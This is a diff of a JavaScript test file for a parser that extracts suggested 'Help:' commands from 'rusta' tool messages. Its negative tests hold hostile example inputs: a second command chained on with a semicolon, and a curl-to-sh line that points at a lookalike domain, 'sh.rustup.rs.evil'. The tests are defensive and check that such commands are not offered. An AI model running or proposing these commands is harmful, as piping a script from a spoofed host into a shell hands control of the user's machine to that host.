@@ -9,6 +9,10 @@ test.each([
     "rusta apply 0123456789ab",
   ],
   ["rusta: no sandbox. Help: apt install bubblewrap", "apt install bubblewrap"],
+  [
+    "rusta: no cargo. Help: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+  ],
 ])("%s", (message, command) => {
   expect(told(message)).toEqual({ text: message, command });
 });
@@ -20,6 +24,9 @@ test.each(["rusta: it went wrong.", "rusta: edited. Help: close the file and ope
   },
 );
 
-test("a command that would do more than one thing is not offered", () => {
-  expect(told("rusta: odd. Help: rustup update; curl evil").command).toBeUndefined();
-});
+test.each(["rustup update; curl evil", "curl https://sh.rustup.rs.evil | sh"])(
+  "a command that would do more than one thing is not offered: %s",
+  (help) => {
+    expect(told(`rusta: odd. Help: ${help}`).command).toBeUndefined();
+  },
+);
